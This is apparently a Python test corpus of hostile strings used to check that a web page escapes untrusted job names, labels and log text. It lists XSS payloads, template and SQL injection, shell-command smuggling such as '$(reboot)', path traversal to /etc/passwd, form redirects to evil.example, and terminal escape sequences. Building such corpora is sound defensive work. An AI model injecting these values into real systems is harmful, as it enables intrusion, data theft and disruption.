"""Text that somebody might give a job, a label or a line of a log, in the hope that a page obeys it."""

SAFE = "x"

_SCRIPTS = (
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>',
    '</title><script>alert(1)</script>',
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>',
    '<iframe src=javascript:alert(1)>',
    '<a href=javascript:alert(1)>x</a>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<style>*{display:none}</style>', '<link rel=stylesheet href=//evil.example>', '<base href=//evil.example/>',
    '<meta http-equiv=refresh content=0>',
    '<form action=//evil.example><input name=token>', '<object data=x>', '<embed src=x>',
    '<template><script>alert(1)</script></template>',
    '<!--', '-->', ']]>', '<![CDATA[', '<?xml', '</body></html>', '{{7*7}}', '{% raw %}', '${7*7}', '#{7*7}',
    '<%= 7*7 %>', '`alert(1)`',
    '__proto__', 'constructor', 'hasOwnProperty', 'toString', 'then', '\\u003cscript\\u003e', '&lt;script&gt;',
    '&#60;script&#62;', '&amp;', '%3Cscript%3E',
    '../../etc/passwd', '..\\..\\x', '//evil.example', 'https://evil.example/', 'file:///etc/passwd',
    'a/b?c=d&e=f#g', 'name with  spaces', ' leading', 'trailing ',
    "'; DROP TABLE jobs;--", '$(reboot)', '`reboot`', '| reboot', '; reboot', 'a\\nb', 'null', 'undefined', 'NaN',
    'true', '0', '-1', '1e999', '[]', '{}', '"', "'", '\\', '<', '>', '&',
)  # fmt: skip
_CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)))
_INVISIBLE = tuple(
    f"a{chr(code)}b"
    for code in (
        0x00AD, 0x061C, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2065),
        *range(0x2066, 0x2070), 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE0020, 0xE007F, 0xE000, 0xF8FF,
    )
)  # fmt: skip
_TERMINAL = (
    '\x1b[2J', '\x1b]0;owned\x07', '\x1b]8;;http://evil.example\x07x\x1b]8;;\x07', '\x1b[31mred', '\x1b[6n',
    '\x1bP+q\x1b\\',
    "\x1b[?1049h", "\x9b31m", "a\rb", "a\x08b", "\x1b[999999999999m", "\x1b[;;;;;m", "\x1b[38;5;1;2;3m",
)  # fmt: skip
_LONG = (
    "x" * 5000, "<" * 3000, "\u0301" * 500, "\U0001f30a" * 400, "\u6f22\u5b57" * 300, "\ufdfa" * 100,
    "\U0001d573\U0001d58a", "a\u0308\u0344\u0308\u0344", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
)  # fmt: skip

CORPUS = (*_SCRIPTS, *_CONTROLS, *_INVISIBLE, *_TERMINAL, *_LONG)
